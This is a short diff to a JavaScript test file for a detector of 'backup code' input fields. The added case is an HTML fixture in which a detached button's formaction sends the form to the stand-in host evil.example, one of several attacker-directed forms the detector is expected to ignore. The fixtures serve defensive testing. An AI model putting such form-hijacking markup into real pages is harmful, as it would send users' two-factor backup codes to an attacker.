@@ -35,6 +35,7 @@ describe('the box for a backup code', () => {
     '<label>Recovery phone <input name="recovery_phone" type="tel"></label>',
     '<form action="https://evil.example/"><label>Backup code <input name="a"></label></form>',
     '<form><label>Backup code <input name="a"></label><button formaction="https://evil.example/">Send</button></form>',
+    '<button form="f" formaction="//evil.example/"></button><form id="f"><label>Backup code <input name="a"></label></form>',
   ])('is none in %s', (body) => {
     show(body);
     expect(nameFound()).toBe(null);
